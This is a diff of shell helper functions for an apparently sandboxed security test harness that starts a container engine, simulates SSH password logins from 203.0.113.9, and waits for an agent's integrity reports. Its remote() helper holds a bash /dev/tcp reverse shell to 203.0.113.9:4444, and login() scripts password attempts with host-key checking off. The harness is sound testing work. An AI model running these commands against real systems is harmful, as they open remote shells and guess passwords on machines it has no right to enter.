@@ -34,17 +34,20 @@ remote() {
 	bash -c 'exec 3<>/dev/tcp/203.0.113.9/4444; sh -c "$0; :" <&3 >&3 2>&3; :' "$1"
 }
 
-# A container engine; its containers lie in this sandbox's cgroup.
+# A container engine; its containers lie in this sandbox's cgroup, or in another.
 engine() {
 	dockerd --data-root /opt/lab/docker --exec-root /run/docker --pidfile /run/docker.pid -H unix:///run/docker.sock --bridge none --iptables=false --ip-forward=false \
-		--exec-opt native.cgroupdriver=cgroupfs --cgroup-parent "/$LAB" > /var/log/docker.log 2>&1 &
-	until docker version > /dev/null 2>&1; do sleep 0.2; done
+		--exec-opt native.cgroupdriver=cgroupfs --cgroup-parent "${1-/$LAB}" > /var/log/docker.log 2>&1 &
+	until docker version > /dev/null 2>&1; do
+		kill -0 $! || { tail /var/log/docker.log >&2; exit 1; }
+		sleep 0.2
+	done
 }
 
 # Its image debian:12, for an engine that is started later.
 image() {
 	engine
-	docker import /opt/engine/base.tar debian:12
+	docker image inspect debian:12 > /dev/null 2>&1 || docker import /opt/engine/base.tar debian:12
 	kill "$(cat /run/docker.pid)"
 	wait
 }
@@ -109,4 +112,13 @@ logins() {
 # Somebody at the address 203.0.113.9 logs in: with this password, as this user.
 login() {
 	WORD=$1 SSH_ASKPASS=/opt/word SSH_ASKPASS_REQUIRE=force ssh -o StrictHostKeyChecking=no -o LogLevel=ERROR -o NumberOfPasswordPrompts=${3-1} "$2@203.0.113.9" true
+}
+
+# In a guest: the agent has looked at the integrity of kernel and host, and told what it found.
+looked() {
+	# The first look may have begun before what it should see, the third one begins when the second is told.
+	for n in 1 2 3; do
+		touch /tmp/now
+		until [ "$LOOK" -nt /tmp/now ]; do sleep 0.2; done
+	done
 }
